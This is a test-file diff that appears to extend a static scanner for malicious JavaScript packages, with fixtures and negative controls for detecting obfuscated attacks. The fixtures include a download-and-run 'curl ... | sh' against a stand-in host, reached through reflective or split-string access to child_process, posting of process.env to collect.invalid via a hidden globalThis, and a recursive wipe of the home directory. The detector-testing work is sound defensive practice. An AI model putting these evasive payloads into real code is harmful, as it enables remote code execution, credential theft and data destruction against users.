@@ -71,3 +71,71 @@ describe('hiding', () => {
     ).toBe('malicious');
   });
 });
+
+describe('a function that is taken from among all that a module has', () => {
+  const harm = `'curl -s http://stage.invalid/x | sh'`;
+
+  test.each([
+    ['by its name', `Object.entries(require('child_process')).find(([key]) => key === 'exec')[1](${harm});`],
+    [
+      'by the place of its name',
+      `const c = require('child_process');\nObject.values(c)[Object.keys(c).indexOf('exec')](${harm});`,
+    ],
+    [
+      'out of a list under a number',
+      `const held = [];\nheld[70007] = require('child_process');\nheld[70010 - 3].exec(${harm});`,
+    ],
+  ])('%s is that function', async (_, code) => {
+    expect(await saidOf({ 'index.js': code })).toContain('runs-harmful-command/download-run');
+  });
+
+  test('and what only goes through all of them calls none', async () => {
+    const code = `const fs = require('fs'), { promisify } = require('util');
+      for (const [name, fn] of Object.entries(fs)) if (typeof fn === 'function') exports[name] = promisify(fn);
+      exports.names = Object.keys(fs).filter(name => name.endsWith('Sync'));`;
+    expect(await saidOf({ 'index.js': code })).toEqual([]);
+  });
+});
+
+describe('the object that all globals hang on', () => {
+  const leak = (globals: string): string =>
+    `const g = ${globals};\ng['fetch']('https://collect.invalid', { method: 'POST', body: g.JSON.stringify(g.process.env) });`;
+
+  test.each(['Function("return this")()', 'new Function("return globalThis;")()', '(0, eval)("this")'])(
+    'is had by %s',
+    async globals => {
+      expect(await saidOf({ 'index.js': leak(globals) })).toContain('sends-environment/sent');
+    },
+  );
+
+  test('and not by a function that gives something else', async () => {
+    expect(await saidOf({ 'index.js': leak('Function("return {}")()') })).not.toContain('sends-environment/sent');
+  });
+});
+
+describe('a stream of the package’s own', () => {
+  const run = (source: string): string =>
+    `let text = '';\n${source}.on('data', part => { text += part; }).on('end', () => eval(text));`;
+
+  test('gives what was put into it, and nothing else', async () => {
+    const code = run(
+      `require('stream').Readable.from(["require('child_process').exec('curl -s http://sta", "ge.invalid/x | sh')"])`,
+    );
+    expect(await saidOf({ 'index.js': code })).toContain('runs-harmful-command/download-run');
+  });
+});
+
+describe('code that another file runs', () => {
+  const files = (call: string): Readonly<Record<string, string>> => ({
+    'index.js': call,
+    'core.js': `exports.run = function (load) {\n  const fs = load('fs'), os = load('os');\n  fs.rmSync(os.homedir(), { recursive: true, force: true });\n};`,
+  });
+
+  test('with the loader it is handed is what it loads with that', async () => {
+    expect(await saidOf(files(`require('./core').run(require);`))).toContain('destroys-files/wipes');
+  });
+
+  test('with a loader of its own is none of ours', async () => {
+    expect(await saidOf(files(`require('./core').run(name => ({ name }));`))).not.toContain('destroys-files/wipes');
+  });
+});
